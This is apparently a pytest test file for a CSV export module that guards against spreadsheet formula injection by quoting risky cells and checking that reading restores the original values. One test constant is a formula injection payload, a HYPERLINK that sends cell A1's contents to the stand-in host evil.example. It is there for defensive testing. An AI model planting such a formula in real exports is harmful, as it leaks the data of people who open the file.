"""exchange/spreadsheet_csv.py: cells a spreadsheet would run are quoted (OWASP), and
reading restores exactly what was written, whatever the value."""

from __future__ import annotations

import io

import pytest

from exchange import spreadsheet_csv
from exchange.spreadsheet_csv import SafeWriter, neutralise, restore

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1;"Klick")'


@pytest.mark.parametrize("value", [ATTACK, "+49 541 12345", "-5", "@SUM(A1:A9)",
                                   "\t=1+1", "\r=1+1"])
def test_cells_a_spreadsheet_would_run_start_with_a_quote(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["Müller", "", "0", "1990-05-02", "a=b", "'t Hooft",
                                   "O'Brien", "'", "Anna-Lena"])
def test_ordinary_cells_are_written_as_they_are(value):
    assert neutralise(value) == value
    assert restore(value) == value  # a foreign file's quote before a letter stays


@pytest.mark.parametrize("value", ["'=1+1", "''", "'-", "''=x", "'@a"])
def test_a_value_that_looks_quoted_itself_gets_one_more_quote(value):
    written = neutralise(value)
    assert written == "'" + value
    assert restore(written) == value


def test_none_and_numbers_are_cells_too():
    assert neutralise(None) == ""
    assert neutralise(12) == "12"
    assert neutralise(-3) == "'-3"


def test_safe_writer_quotes_every_cell_of_a_row():
    buffer = io.StringIO()
    buffer.write(spreadsheet_csv.BOM)
    SafeWriter(buffer, delimiter=";", lineterminator="\r\n").writerow(
        [ATTACK, "Müller", None, "@x"]
    )
    data = buffer.getvalue().encode()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1;" \
        "\"\"Klick\"\")\";Müller;;'@x\r\n"
